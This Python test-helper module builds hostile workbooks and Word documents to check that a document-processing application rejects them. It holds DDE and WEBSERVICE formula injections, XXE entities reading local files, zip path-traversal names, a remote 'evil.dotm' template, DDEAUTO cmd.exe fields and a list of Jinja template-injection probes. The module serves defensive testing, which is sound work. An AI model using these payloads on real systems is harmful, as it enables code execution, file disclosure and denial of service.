"""Workbooks, templates and definitions that try to be more than data: each asks for what would betray a hole."""

import io
import zipfile
from collections.abc import Mapping
from pathlib import Path
from typing import Final

import docx
from docx.document import Document

from tests.books import edited, write_book
from tests.documents import element
from tests.packages import OFFICE, PACKAGE, repacked_with, sheet_of, write_package

PLAIN_TEXTS: Final = (
    '=WEBSERVICE("http://127.0.0.1/x")',
    "=DDE('cmd';'/C calc';'!A0')",
    "+SUM(1,1)",
    "-2+3",
    "@SUM(1+1)",
    "{=1+1}",
    "http://127.0.0.1/x",
    "{{ 7*7 }}",
)
"""Typed as texts, and to stay texts wherever they are written."""


def document_type(secret: Path) -> bytes:
    """Return a document type whose entities would bring in a file, or ask the network for one."""
    return f'<!DOCTYPE x [<!ENTITY % d SYSTEM "{secret.as_uri()}.dtd"><!ENTITY e SYSTEM "{secret.as_uri()}">]>'.encode()


def with_document_type(content: bytes, part: str, secret: Path) -> bytes:
    """Return the package with the document type before the root of one part, and an entity in its first text."""

    def change(name: str, xml: bytes) -> bytes:
        if name != part:
            return xml
        declaration, sign, root = xml.partition(b"?>") if xml.lstrip().startswith(b"<?xml") else (b"", b"", xml)
        return declaration + sign + document_type(secret) + root.replace(b"</", b"&e;</", 1)

    assert part in xml_parts(content)
    return repacked_with(content, change)


def xml_parts(content: bytes) -> list[str]:
    """Return the names of the parts of a package that hold XML."""
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        return [name for name in package.namelist() if name.endswith((".xml", ".rels"))]


def book_of_everything(path: Path, address: str) -> Path:
    """Write an .xlsm with texts like formulas, formulas that fetch, a macro, links, connections and an object."""
    rows = "\n".join(f"| 收文 | '{text} | 2022-03-10 | '{text} |" for text in PLAIN_TEXTS)
    tasks = "\n".join(f"| '{text} | '{text} |" for text in PLAIN_TEXTS)
    tables = {"办文": f"| 事项 | 标题 | 办理时限 | 往来单位 |\n{rows}", "任务": f"| 方面 | 任务 |\n{tasks}"}
    write_book(path, tables, cover={"单位名称": "'=1+1学校", "述职人": "'@SUM(1)"})
    with edited(path) as book:
        page = book["办文"]
        names = {str(cell.value): cell.column or 0 for cell in page[2]}
        page.cell(4, names["数量"], f'=WEBSERVICE("{address}/formula")')
        page.cell(5, names["备注"], f'=HYPERLINK("{address}/link","看")')
        page.cell(6, names["备注"], "=cmd|' /C calc'!A0")
        page.cell(7, names["标题"]).data_type = "s"
        page.cell(7, names["标题"]).hyperlink = f"{address}/cell"
    path.write_bytes(repacked_with(path.read_bytes(), macro_enabled, further_parts(address)))
    return path


def macro_enabled(name: str, xml: bytes) -> bytes:
    """Relate the workbook to what :func:`further_parts` adds, and declare it a workbook with macros."""
    if name == "[Content_Types].xml":
        xml = xml.replace(b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml").replace(
            b"application/vnd.openxmlformats-officedocument.ms-excel", b"application/vnd.ms-excel"
        )
        more = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        return xml.replace(b"<Override", more.encode() + b"<Override", 1)
    if name == "xl/_rels/workbook.xml.rels":
        return xml.replace(b"</Relationships>", WORKBOOK_RELATIONS.encode() + b"</Relationships>")
    return xml


WORKBOOK_RELATIONS: Final = "".join(
    f'<Relationship Id="more{number}" Type="{OFFICE}/{kind}" Target="{target}"{mode}/>'
    for number, (kind, target, mode) in enumerate(
        (
            ("vbaProject", "vbaProject.bin", ""),
            ("externalLink", "externalLinks/externalLink1.xml", ""),
            ("connections", "connections.xml", ""),
            ("oleObject", "embeddings/oleObject1.bin", ""),
            ("theme", "http://127.0.0.1:9/theme.xml", ' TargetMode="External"'),
            ("styles", "../../../../../etc/hostname", ""),
        )
    )
)


def further_parts(address: str) -> Mapping[str, bytes]:
    """Return a macro, a link to another workbook, a connection to the web and an object."""
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    link = f'<Relationship Id="rId1" Type="{OFFICE}/externalLinkPath" Target="{address}/b.xlsx" TargetMode="External"/>'
    return {
        "xl/vbaProject.bin": bytes.fromhex("d0cf11e0a1b11ae1") + b"Attribute VB_Name" + bytes(2000),
        "xl/embeddings/oleObject1.bin": bytes.fromhex("d0cf11e0a1b11ae1") + bytes(2000),
        "xl/externalLinks/externalLink1.xml": (
            f'<externalLink xmlns="{main}"><externalBook xmlns:r="{OFFICE}" r:id="rId1"/></externalLink>'.encode()
        ),
        "xl/externalLinks/_rels/externalLink1.xml.rels": (
            f'<Relationships xmlns="{PACKAGE}/relationships">{link}</Relationships>'.encode()
        ),
        "xl/connections.xml": (
            f'<connections xmlns="{main}"><connection id="1" name="网" type="4" refreshOnLoad="1">'
            f'<webPr url="{address}/web"/></connection></connections>'.encode()
        ),
    }


def with_relation(path: Path, part: str, old: str, new: str) -> Path:
    """Write a small workbook in which one relationship's target is another."""
    write_package(path, {"办文": sheet_of()})

    def change(name: str, xml: bytes) -> bytes:
        return xml.replace(f'Target="{old}"'.encode(), f'Target="{new}"'.encode()) if name == part else xml

    path.write_bytes(repacked_with(path.read_bytes(), change))
    return path


CLIMBING: Final = (
    *("../../../逃.xml", "/逃.xml", "C:\\逃.xml", "..\\..\\逃.xml", "xl/../../逃.xml", "\\\\127.0.0.1\\逃.xml"),
)


def with_climbing_names(path: Path) -> Path:
    """Write a workbook whose package has names that lead out of a folder it would be unpacked into."""
    write_book(path)
    path.write_bytes(repacked_with(path.read_bytes(), lambda _, part: part, dict.fromkeys(CLIMBING, b"<x/>")))
    return path


def fetching_document(address: str) -> Document:
    """Return a document that takes pictures, files, data and its own template from elsewhere."""
    document = docx.Document()
    document.add_paragraph("发文{{ 办文.发文 }}件")
    part, relations = document.part, document.part.rels
    picture = relations.get_or_add_ext_rel(f"{OFFICE}/image", f"{address}/a.png")
    drawn = f'<a:graphic><a:graphicData><a:blip r:link="{picture}"/></a:graphicData></a:graphic>'
    drawing = f"<w:drawing><wp:inline>{drawn}</wp:inline></w:drawing>"
    document.element.body.insert(0, element(f"<w:p><w:r>{drawing}</w:r></w:p>"))
    chunk = relations.get_or_add_ext_rel(f"{OFFICE}/aFChunk", f"{address}/a.htm")
    document.element.body.insert(0, element(f'<w:altChunk r:id="{chunk}"/>'))
    for code in (f'INCLUDETEXT "{address}/b.docx"', f'INCLUDEPICTURE "{address}/b.png"', "DDEAUTO c:\\\\cmd.exe /k"):
        half = len(code) // 3  # Word cuts codes into runs wherever it likes
        runs = "".join(f"<w:r><w:instrText>{each}</w:instrText></w:r>" for each in (code[:half], code[half:]))
        document.element.body.insert(0, element(f"<w:p>{_mark('begin')}{runs}{_mark('end')}</w:p>"))
    settings = part._settings_part.rels  # python-docx keeps the part to itself
    own = settings.get_or_add_ext_rel(f"{OFFICE}/attachedTemplate", f"{address}/evil.dotm")
    settings.get_or_add_ext_rel(f"{OFFICE}/mailMergeSource", f"{address}/data.csv")
    document.settings.element.insert(0, element(f'<w:attachedTemplate r:id="{own}"/>'))
    return document


def _mark(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


TAGS: Final = (
    "{{ ''.__class__.__mro__ }}",
    "{{ 单位名称.__globals__ }}",
    "{{ 单位名称['__class__'] }}",
    "{{ 办文.发文.__class__ }}",
    "{{ cycler.__init__ }}",
    "{{ lipsum }}",
    "{{ self }}",
    "{{ 单位名称|attr('__class__') }}",
    "{{ '{0.__class__}'.format(单位名称) }}",
    "{{ 'a' * 10**10 }}",
    "{{ dict() }}",
    "{{ 成文日期.today() }}",
    "{% include '/etc/hostname' %}",
    "{% import 'os' as os %}",
    "{% extends '甲' %}",
    "{% for 面 in 各工作面 %}{{ loop._iterator.gi_frame }}{% endfor %}",
    "{% for 次 in range(10**9) %}{% endfor %}",
)
"""Each is told before anything is filled in."""
